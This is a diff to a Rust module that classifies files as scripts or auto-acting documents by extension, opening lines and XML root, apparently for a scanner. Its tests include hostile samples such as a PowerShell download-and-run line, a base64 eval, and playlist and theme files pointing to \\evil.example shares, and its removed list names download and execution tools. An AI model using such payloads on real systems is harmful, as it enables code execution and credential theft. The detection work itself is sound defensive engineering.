@@ -1,6 +1,8 @@
 //! Which texts are scripts: what a program acts on when somebody opens it, or an interpreter runs. By their names, by how
 //! they begin, and by what they consist of.
 
+pub(super) use super::script_lines::consists;
+
 /// Names' endings of scripts, shortcuts, settings that are taken over by a click, and queries that fetch.
 const ENDINGS: &[&str] = &[
     // Windows Script Host and its kin.
@@ -100,9 +102,31 @@ const ENDINGS: &[&str] = &[
     "diagcab",
     "diagpkg",
     "xbap",
+    "osd",
     "osdx",
     "gadget",
     "htc",
+    "ica",
+    "udl",
+    "appinstaller",
+    "vsto",
+    "terminal",
+    "workflow",
+    // Lists that a player opens, which lead to shares.
+    "asx",
+    "wax",
+    "wvx",
+    "wmx",
+    "wpl",
+    "zpl",
+    // Projects, of which building and sometimes opening runs commands.
+    "csproj",
+    "vbproj",
+    "fsproj",
+    "vcxproj",
+    "msbuildproj",
+    "proj",
+    "targets",
     // What spreadsheets fetch, and what printers run.
     "iqy",
     "oqy",
@@ -146,10 +170,33 @@ const BEGINNINGS: &[&str] = &[
     "on error resume next",
     "full address:s:",
     "screen mode id:i:",
+    "[oledb]",
+    "[applicationservers]",
+    "[scriptfile]",
 ];
 
-/// Roots of XML documents that a script host runs, with `script` elements in them.
-const HOSTED: &[&str] = &["job", "package", "component", "scriptlet", "registration"];
+/// Roots of XML documents that act when they are opened where one of these stands in them, in lower case: script hosts',
+/// starters of programs, settings, lists of players, projects.
+const ACTING: &[(&str, &[&str])] = &[
+    ("job", HOSTED),
+    ("package", HOSTED),
+    ("component", HOSTED),
+    ("scriptlet", HOSTED),
+    ("registration", HOSTED),
+    ("jnlp", &["codebase", "<jar", "<j2se", "-desc"]),
+    ("softpkg", &["<codebase", "<implementation"]),
+    ("pcsettings", &["<deeplink", "<searchablecontent"]),
+    ("asx", &["<ref", "<entryref", "<base"]),
+    ("smil", &["src=\"\\\\", "src='\\\\", "src=\"file:", "src='file:"]),
+    ("playlist", &["<location>\\\\", "<location>file:"]),
+    ("kml", &["<href>\\\\", "<href>file:"]),
+    ("plist", &["<key>commandstring", "<key>payloadcontent", "<key>programarguments", "<string>file:"]),
+    ("project", &["<exec ", "<usingtask", "microsoft.net.sdk"]),
+    ("appinstaller", &["<mainbundle", "<mainpackage", "uri="]),
+];
+
+/// What script hosts run.
+const HOSTED: &[&str] = &["<script", "<registration"];
 
 /// How much of a text is looked at, in bytes.
 const HEAD: usize = 64 << 10;
@@ -163,7 +210,36 @@ pub(super) fn is_ending(ending: &str) -> bool {
 pub(super) fn begins(text: &str) -> bool {
     let head = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
     let head = head.get(..head.floor_char_boundary(64)).unwrap_or(head).to_ascii_lowercase();
-    BEGINNINGS.iter().any(|begin| head.starts_with(begin)) || is_shell_command(&head) || is_sylk(text)
+    BEGINNINGS.iter().any(|begin| head.starts_with(begin))
+        || is_shell_command(&head)
+        || is_takeover(text, &head)
+        || is_list_of_shares(text, &head)
+        || is_sylk(text)
+}
+
+/// Settings of Windows (`.inf`, `.theme`) that start a program or fetch from a share when they are taken over.
+fn is_takeover(text: &str, head: &str) -> bool {
+    let settings = ["[version]", "[theme]", "[defaultinstall"].iter().any(|begin| head.starts_with(begin));
+    settings && {
+        let text = text.get(..text.floor_char_boundary(HEAD)).unwrap_or(text).to_ascii_lowercase();
+        let lines = || text.lines().map(str::trim);
+        lines().any(|line| line.starts_with("[defaultinstall"))
+            || lines().any(|line| line.split_once('=').is_some_and(|(_, value)| leads_to_share(value)))
+    }
+}
+
+/// A list of a player (M3U, PLS) with something on a share or of this machine, for which programs log in there.
+fn is_list_of_shares(text: &str, head: &str) -> bool {
+    let list = head.starts_with("#extm3u") || head.starts_with("[playlist]");
+    let leads = |line: &str| {
+        leads_to_share(line) || line.split_once('=').is_some_and(|(_, value)| leads_to_share(value))
+    };
+    list && text.lines().any(|line| leads(line.trim()))
+}
+
+fn leads_to_share(value: &str) -> bool {
+    let value = value.trim().trim_start_matches('"');
+    value.starts_with("\\\\") || value.get(..5).is_some_and(|scheme| scheme.eq_ignore_ascii_case("file:"))
 }
 
 /// A command of Windows' shell (`.scf`), in lower case.
@@ -184,185 +260,13 @@ fn is_sylk(text: &str) -> bool {
     first && lines.next().is_none_or(record)
 }
 
-/// Whether an XML document with this root, in lower case, is one that a script host runs.
-pub(super) fn is_hosted(root: &str, text: &str) -> bool {
-    HOSTED.contains(&root) && {
+/// Whether an XML document with this root, in lower case, is one that acts when it is opened.
+pub(super) fn acts(root: &str, text: &str) -> bool {
+    let marks = ACTING.iter().find(|(known, _)| *known == root).map(|(_, marks)| *marks);
+    marks.is_some_and(|marks| {
         let head = text.get(..text.floor_char_boundary(HEAD)).unwrap_or(text).to_ascii_lowercase();
-        head.contains("<script") || head.contains("<registration")
-    }
-}
-
-/// What scripts call to act on the machine, in lower case.
-const ACTS: &[&str] = &[
-    "activexobject",
-    "createobject",
-    "getobject(",
-    "wscript.",
-    "shellexecute",
-    "shell.application",
-    "new-object",
-    "invoke-expression",
-    "invoke-webrequest",
-    "invoke-restmethod",
-    "invoke-command",
-    "start-process",
-    "downloadstring",
-    "downloadfile",
-    "iex ",
-    "iex(",
-    "powershell",
-    "cmd /c",
-    "cmd.exe",
-    "mshta",
-    "rundll32",
-    "regsvr32",
-    "certutil",
-    "bitsadmin",
-    "os.system",
-    "subprocess.",
-    "import os",
-    "import subprocess",
-    "import socket",
-    "exec(",
-    "eval(",
-    "system(",
-    "require(",
-    "msgbox",
-    "wget ",
-    "curl ",
-    "chmod ",
-    "rm -",
-    "schtasks",
-    "reg add",
-    "del /",
-    "taskkill",
-];
-
-/// Words that lines of scripts begin with, in lower case, with what must follow.
-const LINES: &[&str] = &[
-    "dim ",
-    "set ",
-    "sub ",
-    "end sub",
-    "function ",
-    "end function",
-    "end if",
-    "if ",
-    "else",
-    "elseif ",
-    "for ",
-    "next",
-    "while ",
-    "wend",
-    "loop",
-    "do ",
-    "var ",
-    "let ",
-    "const ",
-    "return",
-    "new ",
-    "try",
-    "catch",
-    "throw",
-    "import ",
-    "from ",
-    "def ",
-    "class ",
-    "print",
-    "echo ",
-    "@echo",
-    "rem ",
-    "call ",
-    "start ",
-    "goto ",
-    "exit",
-    "param(",
-    "param (",
-    "$",
-    "function(",
-    "export ",
-    "case ",
-    "msgbox",
-    "wscript.",
-    "createobject",
-    "eval(",
-    "exec",
-    "iex",
-    "invoke-",
-    "start-",
-    "set-",
-    "get-",
-    "new-",
-    "add-",
-    "write-",
-    "remove-",
-    "cd ",
-    "sudo ",
-    "curl ",
-    "wget ",
-    "chmod ",
-    "rm ",
-    "mkdir ",
-    "cp ",
-    "mv ",
-    "copy ",
-    "del ",
-    "powershell",
-    "cmd",
-    "reg ",
-    "schtasks",
-    "with ",
-    "raise ",
-    "except",
-    "finally",
-    "elif ",
-    "self.",
-    "os.",
-    "subprocess.",
-    "sys.",
-    "require(",
-    "public ",
-    "private ",
-];
-
-/// Lines that end what others begin.
-const CLOSINGS: &[&str] = &["fi", "done", "then", "end", "esac", "else", "do", "loop", "wend"];
-
-/// What many lines of scripts consist of, though no sentence does.
-fn is_code(line: &str) -> bool {
-    let assigned = line.split_once('=').is_some_and(|(name, _)| {
-        let name = name.trim_end_matches(['+', '-', ':', ' ', '.']);
-        !name.is_empty()
-            && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_$.[]()\"'%".contains(&byte))
-    });
-    let called =
-        line.ends_with([';', '{', '}', ')']) && line.contains(['(', '{', '}', ';']) || line.ends_with("){");
-    // `sh.Run "calc"`.
-    let told = line.split_once(' ').is_some_and(|(name, rest)| {
-        name.contains('.') && !name.ends_with('.') && rest.starts_with(['"', '\'', '('])
-    });
-    // Sentences begin with such words, too.
-    let worded = !line.ends_with(['.', '?', '!']) && LINES.iter().any(|word| line.starts_with(word));
-    assigned || called || told || worded || CLOSINGS.contains(&line) || line.starts_with(['\'', '#'])
-}
-
-/// Whether a text consists of a script's lines, at least one of which acts on the machine: whatever it is called.
-pub(super) fn consists(text: &str) -> bool {
-    let head = text.get(..text.floor_char_boundary(HEAD)).unwrap_or(text).to_ascii_lowercase();
-    if !ACTS.iter().any(|act| head.contains(act)) {
-        return false;
-    }
-    let mut fenced = false;
-    let (mut code, mut all) = (0_usize, 0_usize);
-    for line in head.lines().map(str::trim).filter(|line| !line.is_empty()) {
-        // Code within Markdown is shown, as a sentence is.
-        let fence = line.starts_with("```") || line.starts_with("~~~");
-        fenced ^= fence;
-        code = code.saturating_add(usize::from(!fence && !fenced && is_code(line)));
-        all = all.saturating_add(1);
-    }
-    // Prose about scripts has sentences.
-    code.saturating_mul(10) >= all.saturating_mul(6)
+        marks.iter().any(|mark| head.contains(mark))
+    })
 }
 
 #[cfg(test)]
@@ -387,6 +291,11 @@ mod tests {
             "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')",
             "import os\nimport socket\nos.system('id')\n",
             "eval(atob(\"YWxlcnQoMSk=\"));",
+            "#EXTM3U\n\\\\evil.example\\x\n",
+            "[playlist]\nFile1=file://evil.example/x\n",
+            "[Theme]\nDisplayName=x\n[boot]\nSCRNSAVE.EXE=\\\\evil.example\\x.scr\n",
+            "[version]\nsignature=$chicago$\n[DefaultInstall]\nUnRegisterOCXs=x\n",
+            "[ApplicationServers]\nx=\n[x]\nInitialProgram=#calc\n",
         ];
         for text in scripts {
             assert!(begins(text) || consists(text), "{text}");
@@ -406,6 +315,8 @@ mod tests {
             "2026-01-01 12:00:00 INFO cmd.exe started by Jane from 10.0.0.1\n2026-01-01 12:00:01 WARN it ended\n",
             "# Notes\n\n- use `eval(x)` with care\n- never trust input\n- ask Jane\n",
             "a,b,c\n1,2,powershell\n",
+            "#EXTM3U\n#EXTINF:9,\nhttps://a.example/1.ts\n",
+            "[version]\nnumber=5\n",
         ];
         for text in others {
             assert!(!begins(text) && !consists(text), "{text}");
@@ -413,9 +324,13 @@ mod tests {
     }
 
     #[test]
-    fn hosted_documents_have_scripts() {
-        assert!(is_hosted("job", "<job><script language='VBScript'>x</script></job>"));
-        assert!(!is_hosted("job", "<job><title>Baker</title></job>"));
-        assert!(!is_hosted("svg", "<svg><script/></svg>"));
+    fn documents_act_by_their_root_and_what_is_in_them() {
+        assert!(acts("job", "<job><script language='VBScript'>x</script></job>"));
+        assert!(!acts("job", "<job><title>Baker</title></job>"));
+        assert!(!acts("svg", "<svg><script/></svg>"));
+        assert!(acts("plist", "<plist><key>CommandString</key><string>id</string></plist>"));
+        assert!(!acts("plist", "<plist><key>Name</key><string>Jane</string></plist>"));
+        assert!(acts("project", "<Project><Target><Exec Command='id'/></Target></Project>"));
+        assert!(!acts("project", "<project><name>a</name></project>"));
     }
 }
